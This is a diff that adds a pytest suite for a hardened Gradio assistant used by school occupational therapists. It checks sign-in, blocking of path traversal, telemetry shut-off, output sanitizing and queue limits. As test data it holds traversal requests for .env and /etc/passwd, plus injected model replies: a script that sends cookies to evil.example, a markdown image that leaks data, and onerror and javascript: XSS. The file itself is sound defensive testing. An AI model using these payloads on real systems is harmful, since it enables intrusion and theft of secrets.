@@ -1,0 +1,203 @@
+"""The hardened launch: loopback or sign-in, files outside the app's temp folder refused (also encoded),
+analytics, share links, run history and tracing off, sanitized model output, a "busy" answer when full."""
+
+import json
+import os
+import subprocess
+import sys
+import threading
+import time
+import urllib.error
+import urllib.request
+from pathlib import Path
+
+import pytest
+
+from assistant.embeddings import force_offline
+from assistant.errors import ConfigError
+from assistant.privacy import LINK_REMOVED, sanitize_output
+from assistant.server import BUSY, RequestGuard, check_bind, launch_options
+from tests.apprunner import ROOT, running_app
+from tests.conftest import make_settings
+
+TRAVERSALS = [
+    "/gradio_api/file=../.env",
+    "/gradio_api/file=..%2F.env",
+    "/gradio_api/file=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "/gradio_api/file=%252e%252e%252f.env",
+    "/gradio_api/file=..%5c..%5c.env",
+    "/gradio_api/file=/etc/passwd",
+    "/gradio_api/file=data/index/chroma.sqlite3",
+    "/gradio_api/file={data}/logs/audit.jsonl",
+    "/gradio_api/file={data}/index/chroma.sqlite3",
+    "/gradio_api/file=.env",
+    "/gradio_api/file=%2Eenv",
+    "/gradio_api/file=https://example.org/x.png",
+    "/gradio_api/file=//example.org/x.png",
+    "/file=.env",
+    "/.env",
+    "/static/../../.env",
+    "/assets/..%2f..%2f.env",
+]
+
+
+def test_a_non_loopback_address_needs_a_sign_in(tmp_path):
+    check_bind(make_settings(tmp_path, host="127.0.0.1"))
+    with pytest.raises(ConfigError, match=r"refusing to listen on 0\.0\.0\.0"):
+        check_bind(make_settings(tmp_path, host="0.0.0.0"))
+    check_bind(make_settings(tmp_path, host="0.0.0.0", auth_username="ot", auth_password="a long passphrase"))
+
+
+def test_app_py_refuses_a_public_address_without_sign_in_in_one_line(tmp_path):
+    env = {**os.environ, "SCHOOLOT_HOST": "0.0.0.0", "SCHOOLOT_DATA_DIR": str(tmp_path)}
+    result = subprocess.run([sys.executable, str(ROOT / "app.py")], env=env, capture_output=True, text=True, timeout=60)
+    assert result.returncode == 2
+    assert result.stderr.strip().startswith("error: refusing to listen on 0.0.0.0")
+    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
+
+
+def test_launch_options_turn_off_share_history_monitoring_and_api_docs(tmp_path):
+    options = launch_options(make_settings(tmp_path / "data"), tmp_path / "tmp")
+    assert options["share"] is False and options["run_history"] is False and options["enable_monitoring"] is False
+    assert options["mcp_server"] is False and options["show_error"] is False and options["auth"] is None
+    assert str((tmp_path / "data").resolve()) in options["blocked_paths"]
+    assert options["app_kwargs"]["openapi_url"] is None
+
+
+def test_tracing_and_analytics_are_forced_off_even_when_the_environment_turns_them_on(monkeypatch):
+    monkeypatch.setenv("LANGCHAIN_TRACING_V2", "true")
+    monkeypatch.setenv("LANGSMITH_TRACING", "true")
+    monkeypatch.setenv("GRADIO_ANALYTICS_ENABLED", "True")
+    force_offline()
+    assert os.environ["LANGCHAIN_TRACING_V2"] == "false" and os.environ["LANGSMITH_TRACING"] == "false"
+    assert os.environ["GRADIO_ANALYTICS_ENABLED"] == "False" and os.environ["HF_HUB_OFFLINE"] == "1"
+
+
+@pytest.mark.parametrize("path", TRAVERSALS)
+def test_the_guard_refuses_paths_outside_the_app_temp_folder(tmp_path, path):
+    guard = RequestGuard(None, served_root=str(tmp_path / "tmp"), blocked=(str(tmp_path / "data"),))
+    raw, _, query = path.format(data=tmp_path / "data").partition("?")
+    assert guard.refusal(raw, query)
+
+
+def test_the_guard_serves_the_apps_own_downloads_and_pages(tmp_path):
+    guard = RequestGuard(None, served_root=str(tmp_path / "tmp"), blocked=(str(tmp_path / "data"),))
+    assert guard.refusal(f"/gradio_api/file={tmp_path}/tmp/gradio/abc/school-ot-draft.docx", "") is None
+    for path in ["/", "/gradio_api/info", "/assets/index-abc.js", "/gradio_api/queue/join", "/config"]:
+        assert guard.refusal(path, "") is None
+
+
+@pytest.mark.parametrize(
+    ("reply", "gone"),
+    [
+        ("Try this ![chart](https://evil.example/p.png?d=Maya) today", "evil.example"),
+        ("See [the guide](https://evil.example/x) for more", "evil.example"),
+        ("<script>fetch('https://evil.example/'+document.cookie)</script>Done", "script"),
+        ("<img src=x onerror=alert(1)>Answer", "onerror"),
+        ('<a href="javascript:alert(1)">click</a>', "javascript"),
+        ("Visit www.evil.example/track now", "evil.example"),
+        ("[ref]: https://evil.example/t\nAnswer [x][ref]", "evil.example"),
+        ("<iframe src='https://evil.example'></iframe>ok", "iframe"),
+    ],
+)
+def test_model_output_is_sanitized_before_rendering(reply, gone):
+    cleaned = sanitize_output(reply)
+    assert gone not in cleaned.lower()
+    assert "<" not in cleaned or "&lt;" in cleaned
+
+
+def test_sanitizing_keeps_ordinary_answers_and_link_words():
+    text = "Push-in means the OT works in the classroom; **pull-out** is a separate room. 3 < 4 trials."
+    assert sanitize_output(text) == text
+    assert sanitize_output("see [the guide](http://x.example)") == "see the guide"
+    assert LINK_REMOVED in sanitize_output("go to http://x.example/path now")
+
+
+@pytest.fixture(scope="module")
+def signed_in_app(tmp_path_factory, index_settings):
+    """The app on all interfaces with a sign-in, a queue of 1 and one worker (reached over loopback)."""
+    work = tmp_path_factory.mktemp("hardened")
+    (work / ".env").write_text("SCHOOLOT_LLM_API_KEY=sk-secret-from-dotenv\n")
+    env = {
+        "SCHOOLOT_HOST": "0.0.0.0",
+        "SCHOOLOT_AUTH_USERNAME": "ot",
+        "SCHOOLOT_AUTH_PASSWORD": "correct horse battery",
+        "SCHOOLOT_DATA_DIR": str(work / "data"),
+        "SCHOOLOT_INDEX_DIR": str(index_settings.index_path),
+        "SCHOOLOT_QUEUE_SIZE": "1",
+        "SCHOOLOT_CONCURRENCY": "1",
+    }
+    with running_app(work, env) as app:
+        yield app, work
+
+
+def _get(url: str, headers: dict | None = None) -> tuple[int, str]:
+    request = urllib.request.Request(url, headers=headers or {})
+    try:
+        with urllib.request.urlopen(request, timeout=10) as response:
+            return response.status, response.read().decode(errors="replace")
+    except urllib.error.HTTPError as error:
+        return error.code, error.read().decode(errors="replace")
+
+
+@pytest.mark.slow
+def test_the_signed_in_app_refuses_strangers(signed_in_app):
+    app, _ = signed_in_app
+    status, _ = _get(app.url + "gradio_api/info")
+    assert status in (401, 403)
+    status, body = _get(app.url + "config")
+    assert status in (401, 403) or "auth_required" in body
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("path", TRAVERSALS)
+def test_the_running_app_answers_403_to_traversal_and_private_files(signed_in_app, path):
+    app, work = signed_in_app
+    target = path.format(data=work / "data")
+    status, body = _get(app.url.rstrip("/") + target)
+    assert status == 403, (target, status, body[:200])
+    assert "sk-secret-from-dotenv" not in body and "SQLite" not in body
+
+
+@pytest.mark.slow
+def test_a_full_queue_answers_busy_and_the_app_keeps_working(signed_in_app):
+    from gradio_client import Client
+
+    app, _ = signed_in_app
+    client = Client(app.url, auth=("ot", "correct horse battery"), verbose=False)
+    cookies = "; ".join(f"{k}={v}" for k, v in client.cookies.items())
+    headers = {"Content-Type": "application/json", "Cookie": cookies}
+    statuses: list[tuple[int, str]] = []
+
+    def submit() -> None:
+        data = json.dumps({"data": ["Plan a 60-minute pull-out session for cutting, buttons and writing"]}).encode()
+        request = urllib.request.Request(app.url + "gradio_api/call/chat", data=data, headers=headers)
+        try:
+            with urllib.request.urlopen(request, timeout=30) as response:
+                statuses.append((response.status, response.read().decode()))
+        except urllib.error.HTTPError as error:
+            statuses.append((error.code, error.read().decode()))
+
+    threads = [threading.Thread(target=submit) for _ in range(24)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    codes = [code for code, _ in statuses]
+    assert set(codes) <= {200, 503} and 503 in codes, codes
+    assert all(json.loads(body)["detail"] == BUSY for code, body in statuses if code == 503)
+    # Once the accepted requests are done, the app answers again.
+    deadline = time.monotonic() + 60
+    while True:
+        try:
+            answer = client.predict("Is handwriting in school OT scope?", api_name="/scope")
+            break
+        except Exception:
+            assert time.monotonic() < deadline, "the app did not recover from a full queue"
+            time.sleep(0.5)
+    assert answer["verdict"] == "in_scope"
+
+
+def test_the_env_file_of_the_project_is_blocked_too(tmp_path):
+    options = launch_options(make_settings(tmp_path / "data"), tmp_path / "tmp")
+    assert str(ROOT / ".env") in options["blocked_paths"] or str(Path(ROOT / ".env")) in options["blocked_paths"]
